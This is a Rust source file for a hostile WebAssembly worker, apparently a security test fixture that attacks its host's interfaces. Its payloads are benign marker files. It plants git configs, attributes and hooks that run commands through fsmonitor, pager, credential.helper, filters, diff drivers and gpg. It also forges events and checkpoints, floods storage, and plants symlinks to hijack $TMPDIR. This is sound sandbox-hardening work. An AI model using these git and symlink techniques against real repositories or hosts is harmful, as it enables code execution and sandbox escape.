// The hostile worker kinds `hostile` and `hostile-sh`, shared by both crates
// through `#[path]`: written straight against `wit/worker.wit` with
// wit-bindgen (no SDK), so nothing between the attack and the host's
// interfaces softens it. Each crate sets `KIND` and `PROGRAMS`.
//
// `command` lists operations, one per line; each prints `<op>: ok …` or
// `<op>: error …` on stdout and the next one runs whatever happened. The
// step completes ("N operation(s) ran") unless an operation decides the
// outcome (`big-summary`, `big-failure`, `big-followups`).
//
// Operations:
//
// - `plant-git [gitfile | gitlink | outside PATH]`: through WASI, make every
//   program git could be configured to run write a marker `PWNED-<route>`
//   into its working directory: `.gitattributes` with filters and diff
//   drivers; `filter.*.clean/smudge/process` through a shell (the process
//   filter answers git's handshake, then aborts, so git goes on) and by direct
//   exec of a planted executable; `core.fsmonitor`, `core.hooksPath`,
//   `core.pager`, `core.sshCommand`, `core.askPass`, `core.editor`,
//   `diff.*.textconv`, `diff.*.command`, `diff.external`,
//   `credential.helper`, `gpg.program` with `commit.gpgSign`; an
//   `include.path` to a planted config with one more filter; hooks in the
//   git directory's `hooks/`, and in `.evil/hookspath` (the `core.hooksPath`,
//   in place only). Executables are made from git's `hooks/*.sample` files
//   (renamed, rewritten and hard-linked: WASI cannot chmod). New files that
//   carry the attributes are written so that `git add`, `git diff` and
//   `git status` reach the drivers. Variants: `gitfile`: `.git` becomes a
//   file `gitdir: planted-gitdir` (the real directory moved there);
//   `gitlink`: `.git` becomes a symlink to `linked-gitdir`; `outside PATH`:
//   `.git` becomes a file `gitdir: PATH` (the real one moved to `.git-moved`).
// - `capture-git-diff`: `checkpoint::capture("git-diff", …, None)`: the host
//   snapshots the worktree with its own git.
// - `emit-fake NAME PID START`: `events::emit` of `NAME` (`subprocess.started`,
//   `step.finished`, …) with `{"pid":PID,"startTime":START,"supervisorPid":PID}`.
// - `fake-checkpoint TYPE [TEXT…]`: capture `TYPE` with the worker's own
//   payload (for `git-diff`, a patch that would create `PWNED-fake-patch`).
// - `resume`: print the resume checkpoint (`resume: ok seq=… type=… …`).
// - `big-summary MIB`, `big-failure MIB` (`execute-error::failed`),
//   `big-followups N BYTES`, `big-event MIB` (name, message and data of MIB
//   each): outsized strings for the host.
// - `events N KIB`, `artifacts N MIB`, `checkpoints N MIB` (type `flood`):
//   floods of the run directory; errors are counted, never stop the flood.
// - `fill FILES KIB`: write FILES files of KIB KiB of incompressible data
//   under `fill/` (a worktree slow to snapshot).
// - `sleep-ms N`: sleep in WASI (a host call), then go on.
// - `write PATH TEXT…`: write a file through WASI.
// - `scratch-file NAME TEXT…`: `subprocess::scratch-file`.
// - `sh SCRIPT…`: `sh -c SCRIPT` through the `subprocess` interface, its
//   output printed (only `hostile-sh` is granted `sh`).
// - `plant-links HOSTPID TARGET COUNT`, `plant-hardlinks HOSTPID TARGET COUNT`
//   (`hostile-sh`): in `$TMPDIR`, links to TARGET at every name the host may
//   write there: `evil-scratch`, `.evil-scratch.tmp-HOSTPID` and
//   `baa-snapshot-index-HOSTPID-0` … `-(COUNT-1)`.
// - `replace-tmpdir TARGET` (`hostile-sh`): `$TMPDIR` becomes a symlink to TARGET.

use std::io::Write;

wit_bindgen::generate!({
    path: "../../../wit",
    world: "worker",
});

use baa::worker::types::{StepRequest, SuggestedFollowup};
use baa::worker::{checkpoint, events, subprocess};
use exports::baa::worker::worker_executor::{
    Capabilities, ExecuteError, Guest, Status, WorkerInfo, WorkerOutcome,
};

const MIB: usize = 1024 * 1024;

struct Hostile;

impl Guest for Hostile {
    fn describe() -> WorkerInfo {
        WorkerInfo {
            name: crate::KIND.into(),
            version: "0.1.0".into(),
            description: "Test fixture: attacks the host through its interfaces".into(),
            capabilities: Capabilities {
                programs: crate::PROGRAMS.iter().map(|p| p.to_string()).collect(),
                env: Vec::new(),
                network: false,
            },
        }
    }

    fn execute(request: StepRequest) -> Result<WorkerOutcome, ExecuteError> {
        let script = request.command.clone().unwrap_or_default();
        let mut decided: Option<Result<WorkerOutcome, ExecuteError>> = None;
        let mut ran = 0;
        for line in script.lines().map(str::trim).filter(|l| !l.is_empty()) {
            let words: Vec<&str> = line.split_whitespace().collect();
            let result = operation(&words, &request, &mut decided);
            ran += 1;
            let op = words[0];
            let mut out = std::io::stdout().lock();
            let _ = match result {
                Ok(text) => writeln!(out, "{op}: ok {}", text.trim_end()),
                Err(why) => writeln!(out, "{op}: error {}", why.trim_end()),
            };
            let _ = out.flush();
        }
        decided.unwrap_or_else(|| {
            Ok(outcome(
                Status::Completed,
                format!("{ran} operation(s) ran"),
            ))
        })
    }
}

fn outcome(status: Status, summary: String) -> WorkerOutcome {
    WorkerOutcome {
        status,
        summary,
        needs_human: false,
        exit_code: None,
        suggested_followup: Vec::new(),
    }
}

fn num(words: &[&str], n: usize, default: u64) -> u64 {
    words.get(n).and_then(|w| w.parse().ok()).unwrap_or(default)
}

fn rest(words: &[&str], n: usize) -> String {
    words.get(n..).map(|w| w.join(" ")).unwrap_or_default()
}

fn arg<'a>(words: &[&'a str], n: usize) -> &'a str {
    words.get(n).copied().unwrap_or("")
}

fn io(e: std::io::Error) -> String {
    e.to_string()
}

fn operation(
    words: &[&str],
    request: &StepRequest,
    decided: &mut Option<Result<WorkerOutcome, ExecuteError>>,
) -> Result<String, String> {
    match words[0] {
        "plant-git" => plant_git(arg(words, 1), arg(words, 2)),
        "capture-git-diff" => {
            checkpoint::capture("git-diff", "the host's snapshot, please", None)
                .map(|seq| format!("seq={seq}"))
                .map_err(|e| format!("{e:?}"))
        }
        "emit-fake" => {
            let (name, pid, start) = (arg(words, 1), num(words, 2, 1), num(words, 3, 0));
            let data = format!(r#"{{"pid":{pid},"startTime":{start},"supervisorPid":{pid}}}"#);
            events::emit(
                events::Level::Info,
                name,
                &format!("started `sleep` (pid {pid})"),
                Some(&data),
            );
            Ok(format!("emitted {name}"))
        }
        "fake-checkpoint" => {
            let kind = arg(words, 1);
            let text = rest(words, 2);
            let payload = if kind == "git-diff" {
                format!(
                    "diff --git a/PWNED-fake-patch b/PWNED-fake-patch\nnew file mode 100755\n--- /dev/null\n+++ b/PWNED-fake-patch\n@@ -0,0 +1 @@\n+{text}\n"
                )
            } else {
                text
            };
            checkpoint::capture(kind, &format!("the worker's own {kind}"), Some(payload.as_bytes()))
                .map(|seq| format!("seq={seq}"))
                .map_err(|e| format!("{e:?}"))
        }
        "resume" => match &request.resume {
            Some(r) => Ok(format!(
                "seq={} type={} summary={} payload={}",
                r.seq,
                r.checkpoint_type,
                r.summary,
                r.payload
                    .as_deref()
                    .map(String::from_utf8_lossy)
                    .unwrap_or_default()
                    .replace('\n', "\\n")
            )),
            None => Err("no resume checkpoint".into()),
        },
        "big-summary" => {
            let n = num(words, 1, 1) as usize * MIB;
            *decided = Some(Ok(outcome(Status::Completed, "S".repeat(n))));
            Ok(format!("summary of {n} bytes"))
        }
        "big-failure" => {
            let n = num(words, 1, 1) as usize * MIB;
            *decided = Some(Err(ExecuteError::Failed("F".repeat(n))));
            Ok(format!("failure of {n} bytes"))
        }
        "big-followups" => {
            let (count, bytes) = (num(words, 1, 1) as usize, num(words, 2, 1) as usize);
            let mut done = outcome(Status::Completed, "followups".into());
            done.suggested_followup = (0..count)
                .map(|i| SuggestedFollowup {
                    step_name: format!("{i}-{}", "N".repeat(bytes)),
                    step_kind: "review".into(),
                    reason: "R".repeat(bytes),
                })
                .collect();
            *decided = Some(Ok(done));
            Ok(format!("{count} followups of {bytes} bytes"))
        }
        "big-event" => {
            let n = num(words, 1, 1) as usize * MIB;
            let data = format!("{{\"blob\":\"{}\"}}", "D".repeat(n));
            events::emit(
                events::Level::Info,
                &format!("big.{}", "e".repeat(n)),
                &"M".repeat(n),
                Some(&data),
            );
            Ok(format!("event of 3 x {n} bytes"))
        }
        "events" => {
            let (count, kib) = (num(words, 1, 1), num(words, 2, 1) as usize);
            let message = "E".repeat(kib * 1024);
            for i in 0..count {
                events::emit(events::Level::Info, "flood.event", &message, Some(&format!("{{\"i\":{i}}}")));
            }
            Ok(format!("{count} events of {kib} KiB"))
        }
        "artifacts" => {
            let (count, mib) = (num(words, 1, 1), num(words, 2, 1) as usize);
            let contents = pseudo_random(mib * MIB, 7);
            let mut refused = Vec::new();
            for i in 0..count {
                if let Err(e) = events::declare_artifact(&format!("flood-{i}.bin"), "flood", &contents) {
                    refused.push(format!("{i}: {e:?}"));
                }
            }
            Ok(format!("{} of {count} stored; refused: {}", count as usize - refused.len(), cut(&refused.join("; "))))
        }
        "checkpoints" => {
            let (count, mib) = (num(words, 1, 1), num(words, 2, 1) as usize);
            let payload = pseudo_random(mib * MIB, 11);
            let mut refused = Vec::new();
            for i in 0..count {
                if let Err(e) = checkpoint::capture("flood", &format!("flood {i}"), Some(&payload)) {
                    refused.push(format!("{i}: {e:?}"));
                }
            }
            Ok(format!("{} of {count} stored; refused: {}", count as usize - refused.len(), cut(&refused.join("; "))))
        }
        "fill" => {
            let (files, kib) = (num(words, 1, 1), num(words, 2, 1) as usize);
            std::fs::create_dir_all("fill").map_err(io)?;
            for i in 0..files {
                std::fs::write(format!("fill/f{i:05}.bin"), pseudo_random(kib * 1024, i + 1)).map_err(io)?;
            }
            Ok(format!("{files} files of {kib} KiB"))
        }
        "sleep-ms" => {
            let ms = num(words, 1, 0);
            std::thread::sleep(std::time::Duration::from_millis(ms));
            Ok(format!("slept {ms} ms"))
        }
        "write" => std::fs::write(arg(words, 1), rest(words, 2))
            .map(|_| "written".into())
            .map_err(io),
        "scratch-file" => subprocess::scratch_file(arg(words, 1), rest(words, 2).as_bytes())
            .map_err(|e| format!("{e:?}")),
        "sh" => sh(&rest(words, 1)),
        "plant-links" | "plant-hardlinks" => {
            let (pid, target, count) = (arg(words, 1), arg(words, 2), num(words, 3, 1));
            let ln = if words[0] == "plant-links" { "ln -s" } else { "ln" };
            sh(&format!(
                "cd \"$TMPDIR\" || exit 1; ok=0; failed=0; \
                 for name in evil-scratch .evil-scratch.tmp-{pid}; do \
                   if {ln} '{target}' \"$name\" 2>/dev/null; then ok=$((ok+1)); else failed=$((failed+1)); fi; done; \
                 i=0; while [ $i -lt {count} ]; do \
                   if {ln} '{target}' baa-snapshot-index-{pid}-$i 2>/dev/null; then ok=$((ok+1)); else failed=$((failed+1)); fi; \
                   i=$((i+1)); done; \
                 echo \"planted=$ok failed=$failed in $TMPDIR\""
            ))
        }
        "replace-tmpdir" => sh(&format!(
            "mv \"$TMPDIR\" \"$TMPDIR.moved\" && ln -s '{}' \"$TMPDIR\" && echo \"$TMPDIR -> $(readlink \"$TMPDIR\")\"",
            arg(words, 1)
        )),
        other => Err(format!("unknown operation `{other}`")),
    }
}

fn cut(text: &str) -> String {
    text.chars().take(400).collect()
}

/// `n` bytes that do not compress (xorshift), different per `seed`.
fn pseudo_random(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut out = Vec::with_capacity(n + 8);
    while out.len() < n {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.extend_from_slice(&x.to_le_bytes());
    }
    out.truncate(n);
    out
}

/// `sh -c script` through the host's `subprocess` interface; its exit and
/// output.
fn sh(script: &str) -> Result<String, String> {
    let process = subprocess::spawn(&subprocess::Command {
        program: "sh".into(),
        args: vec!["-c".into(), script.into()],
        cwd: None,
        env: Vec::new(),
        timeout_ms: None,
        stdin: None,
    })
    .map_err(|e| format!("{e:?}"))?;
    let mut output = Vec::new();
    loop {
        match process.next() {
            subprocess::Output::Stdout(bytes) | subprocess::Output::Stderr(bytes) => {
                output.extend_from_slice(&bytes)
            }
            subprocess::Output::Exited(status) => {
                let text = String::from_utf8_lossy(&output).replace('\n', " | ");
                return if status.code == Some(0) {
                    Ok(text)
                } else {
                    Err(format!("{status:?}: {text}"))
                };
            }
        }
    }
}

/// The planted executable: it marks that it ran (by its directory and
/// name), then behaves enough like what git expected for git to go on.
const EXEC_SCRIPT: &str = r#"#!/bin/sh
: > "PWNED-exec-$(basename "$(dirname "$0")")-$(basename "$0")"
case "$0" in
  *filter*) exec cat ;;
esac
exit 0
"#;

/// Hooks planted in the git directory and in the `core.hooksPath` directory.
const HOOKS: &[&str] = &[
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "post-rewrite",
    "fsmonitor-watchman",
];

const ATTRIBUTES: &str = "\
*.clean filter=evilclean
*.proc filter=evilproc
*.direct filter=evildirect
*.inc filter=evilinc
*.tc diff=eviltextconv
*.cmd diff=evilcmd
README.md filter=evilclean diff=eviltextconv
";

/// Appended to the git directory's `config`: every route by which git runs a
/// program the repository names. Values are quoted (`;` starts a comment).
fn hostile_config(hooks_path: bool) -> String {
    let mut config = String::from(
        r#"
[core]
	fsmonitor = ": > PWNED-fsmonitor; true"
	pager = ": > PWNED-pager; cat"
	sshCommand = ": > PWNED-ssh; false"
	askPass = ": > PWNED-askpass; false"
	editor = ": > PWNED-editor; true"
[filter "evilclean"]
	clean = ": > PWNED-filter-clean; cat"
	smudge = ": > PWNED-filter-smudge; cat"
[filter "evilproc"]
	process = "printf '0016git-filter-server\\n000eversion=2\\n00000015capability=clean\\n00000011status=abort\\n0000'; : > PWNED-filter-process; exec cat >/dev/null"
[filter "evildirect"]
	clean = .evil/evil-filter
	smudge = .evil/evil-filter
[diff "eviltextconv"]
	textconv = ": > PWNED-textconv; cat"
[diff "evilcmd"]
	command = ": > PWNED-diff-command; true"
[diff]
	external = ": > PWNED-diff-external; true"
[credential]
	helper = "!: > PWNED-credential; true"
[gpg]
	program = .evil/evil-gpg
[commit]
	gpgSign = true
[include]
	path = ../.evil/more.config
"#,
    );
    if hooks_path {
        config.push_str("[core]\n\thooksPath = .evil/hookspath\n");
    }
    config
}

const MORE_CONFIG: &str = r#"[filter "evilinc"]
	clean = ": > PWNED-include-filter; cat"
[status]
	showUntrackedFiles = all
"#;

fn plant_git(variant: &str, outside: &str) -> Result<String, String> {
    use std::fs;
    // Where the git directory ends up.
    let git_dir = match variant {
        "" => ".git".to_string(),
        "gitfile" => {
            fs::rename(".git", "planted-gitdir").map_err(io)?;
            fs::write(".git", "gitdir: planted-gitdir\n").map_err(io)?;
            "planted-gitdir".to_string()
        }
        "gitlink" => {
            fs::rename(".git", "linked-gitdir").map_err(io)?;
            #[allow(deprecated)] // the stable way to make a symlink on WASI
            fs::soft_link("linked-gitdir", ".git").map_err(io)?;
            "linked-gitdir".to_string()
        }
        "outside" => {
            fs::rename(".git", ".git-moved").map_err(io)?;
            fs::write(".git", format!("gitdir: {outside}\n")).map_err(io)?;
            ".git-moved".to_string()
        }
        other => return Err(format!("unknown plant-git variant `{other}`")),
    };
    let hooks_dir = format!("{git_dir}/hooks");

    // An executable to copy: WASI cannot chmod, but renaming a sample hook
    // and rewriting it keeps its mode.
    fs::create_dir_all(".evil/hookspath").map_err(io)?;
    let samples: Vec<String> = fs::read_dir(&hooks_dir)
        .map_err(|e| format!("{hooks_dir}: {e}"))?
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".sample"))
        .collect();
    let Some(sample) = samples.first() else {
        return Err(format!("no executable `*.sample` in {hooks_dir} to copy"));
    };
    let base = ".evil/evil-base";
    fs::rename(format!("{hooks_dir}/{sample}"), base).map_err(io)?;
    fs::write(base, EXEC_SCRIPT).map_err(io)?;
    let mut links = vec![
        ".evil/evil-filter".to_string(),
        ".evil/evil-gpg".to_string(),
    ];
    for hook in HOOKS {
        links.push(format!("{hooks_dir}/{hook}"));
        links.push(format!(".evil/hookspath/{hook}"));
    }
    let mut linked = 0;
    for link in &links {
        let _ = fs::remove_file(link);
        fs::hard_link(base, link).map_err(|e| format!("hard link {link}: {e}"))?;
        linked += 1;
    }

    let mut config = fs::OpenOptions::new()
        .append(true)
        .open(format!("{git_dir}/config"))
        .map_err(|e| format!("{git_dir}/config: {e}"))?;
    config
        .write_all(hostile_config(variant.is_empty()).as_bytes())
        .map_err(io)?;
    fs::write(".evil/more.config", MORE_CONFIG).map_err(io)?;
    fs::write(".gitattributes", ATTRIBUTES).map_err(io)?;
    for ext in ["clean", "proc", "direct", "inc", "tc", "cmd"] {
        fs::write(
            format!("planted.{ext}"),
            format!("changed by the worker ({ext})\n"),
        )
        .map_err(io)?;
    }
    fs::write("README.md", "# demo, changed by the worker\n").map_err(io)?;
    Ok(format!(
        "git dir {git_dir}: {linked} executables, config, attributes"
    ))
}

export!(Hostile);
